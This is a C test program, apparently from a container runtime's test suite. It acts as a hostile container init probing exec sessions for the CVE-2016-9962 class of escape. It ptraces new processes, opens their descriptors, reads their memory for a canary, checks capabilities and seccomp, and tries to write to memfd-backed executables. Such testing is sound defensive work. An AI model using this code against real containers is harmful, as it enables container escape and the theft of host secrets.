/*
 * A container's process 1 that attacks exec sessions (CVE-2016-9962), for HostileExecRootIT: it waits for each new process of its pid
 * namespace, traces it, opens its descriptors and reads its memory. It writes a line "found ..." for whatever is not the container's own,
 * and with SIGTERM what it has seen. The first argument is what must be in nobody's memory, with every letter one later in the alphabet, so
 * that it is not in its own.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#define AHEAD 32
#define MOST_FOUND 200
#define MOST_MEMORY (8 << 20)

static volatile sig_atomic_t over;
static char canary[256];
static unsigned long long own_capabilities;
static struct stat own_root;
static int seen, before_exec, traced, memory_read, descriptors_opened, found;

static void stop(int number) {
    (void)number;
    over = 1;
}

static void tell(pid_t pid, const char *what, const char *detail) {
    if (found++ < MOST_FOUND)
        printf("found in %d: %s: %s\n", pid, what, detail);
}

static ssize_t slurp(pid_t pid, const char *name, char *to, size_t size) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    ssize_t got = read(fd, to, size - 1);
    close(fd);
    if (got >= 0)
        to[got] = 0;
    return got;
}

static unsigned long long capabilities(const char *status, const char *name) {
    const char *line = strstr(status, name);
    return line == NULL ? 0 : strtoull(line + strlen(name), NULL, 16);
}

/* Never more than the container has, however early it is seen. */
static void credentials(pid_t pid) {
    static const char *const sets[] = {"CapInh:\t", "CapPrm:\t", "CapEff:\t", "CapBnd:\t", "CapAmb:\t"};
    char status[8192];
    if (slurp(pid, "status", status, sizeof status) <= 0)
        return;
    for (size_t i = 0; i < sizeof sets / sizeof *sets; i++)
        if (capabilities(status, sets[i]) & ~own_capabilities)
            tell(pid, "capabilities", strstr(status, sets[i]));
    if (strstr(status, "State:\tZ") == NULL && strstr(status, "Seccomp:\t2") == NULL)
        tell(pid, "no filter", status);
}

static void link_of(pid_t pid, const char *name, bool directory) {
    char path[96], target[PATH_MAX];
    struct stat s;
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    ssize_t size = readlink(path, target, sizeof target - 1);
    if (size < 0)
        return;
    target[size] = 0;
    int fd = open(path, (directory ? O_DIRECTORY : O_NONBLOCK) | O_RDONLY | O_CLOEXEC | O_NOCTTY);
    if (fd < 0)
        return;
    descriptors_opened++;
    if (fstat(fd, &s) == 0) {
        bool here = s.st_dev == own_root.st_dev;
        if (S_ISDIR(s.st_mode) && !here)
            tell(pid, name, target);
        if (S_ISREG(s.st_mode) && !here && strncmp(target, "/memfd:", 7) != 0)
            tell(pid, name, target);
        if ((S_ISBLK(s.st_mode) || S_ISCHR(s.st_mode)) && strncmp(target, "/dev/", 5) != 0)
            tell(pid, name, target);
    }
    close(fd);
    fd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (fd >= 0) {
        if (strncmp(target, "/memfd:", 7) == 0 && write(fd, "x", 1) == 1)
            tell(pid, "its code can be written", target);
        close(fd);
    }
}

/* Pipes, sockets and the like have no path that is the host's; everything else that can be opened must be of the container. */
static void descriptors(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *directory = opendir(path);
    if (directory == NULL)
        return;
    for (struct dirent *entry = readdir(directory); entry != NULL; entry = readdir(directory))
        if (entry->d_name[0] != '.') {
            char name[300];
            snprintf(name, sizeof name, "fd/%s", entry->d_name);
            link_of(pid, name, false);
        }
    closedir(directory);
    link_of(pid, "root", true);
    link_of(pid, "cwd", true);
    link_of(pid, "exe", false);
}

static void memory(pid_t pid) {
    static char maps[64 << 10], bytes[64 << 10];
    char path[64];
    if (slurp(pid, "environ", bytes, sizeof bytes) > 0 && memmem(bytes, sizeof bytes - 1, canary, strlen(canary)) != NULL)
        tell(pid, "environment", "the canary");
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0 || slurp(pid, "maps", maps, sizeof maps) <= 0) {
        if (fd >= 0)
            close(fd);
        return;
    }
    size_t total = 0;
    for (char *line = maps; line != NULL && *line != 0 && total < MOST_MEMORY; line = strchr(line, '\n'), line += line != NULL) {
        unsigned long from, to;
        if (sscanf(line, "%lx-%lx", &from, &to) != 2)
            break;
        for (unsigned long at = from; at < to && total < MOST_MEMORY; at += sizeof bytes) {
            size_t piece = to - at < sizeof bytes ? to - at : sizeof bytes;
            ssize_t got = pread(fd, bytes, piece, (off_t)at);
            if (got <= 0)
                break;
            total += (size_t)got;
            if (memmem(bytes, (size_t)got, canary, strlen(canary)) != NULL)
                tell(pid, "memory", line);
        }
    }
    memory_read += total > 0;
    close(fd);
}

/* Stops it where it is, looks again at rest, and lets it go on. */
static void trace(pid_t pid) {
    int status;
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) != 0)
        return;
    traced++;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        credentials(pid);
        descriptors(pid);
        memory(pid);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
}

static void attack(pid_t pid) {
    char target[PATH_MAX], path[64];
    seen++;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t size = readlink(path, target, sizeof target - 1);
    before_exec += size > 7 && strncmp(target, "/memfd:", 7) == 0;
    /* In turn, since each takes time in which the process goes on. */
    switch (pid % 3) {
    case 0:
        trace(pid);
        break;
    case 1:
        descriptors(pid);
        memory(pid);
        break;
    default:
        memory(pid);
        descriptors(pid);
    }
    credentials(pid);
}

int main(int count, char **arguments) {
    char status[8192];
    if (count != 2 || strlen(arguments[1]) >= sizeof canary)
        return 2;
    for (size_t i = 0; arguments[1][i] != 0; i++)
        canary[i] = (char)(arguments[1][i] - 1);
    signal(SIGTERM, stop);
    if (stat("/", &own_root) != 0 || slurp(getpid(), "status", status, sizeof status) <= 0)
        return 3;
    own_capabilities = capabilities(status, "CapBnd:\t");
    setvbuf(stdout, NULL, _IOLBF, 0);
    printf("watching\n");
    for (pid_t next = 2; !over;) {
        for (pid_t pid = next; pid < next + AHEAD; pid++)
            if (kill(pid, 0) == 0) {
                attack(pid);
                next = pid + 1;
                break;
            }
        while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
            ;
    }
    printf("seen %d, before exec %d, traced %d, memory of %d, descriptors %d, found %d\n", seen, before_exec, traced, memory_read,
           descriptors_opened, found);
    return 0;
}
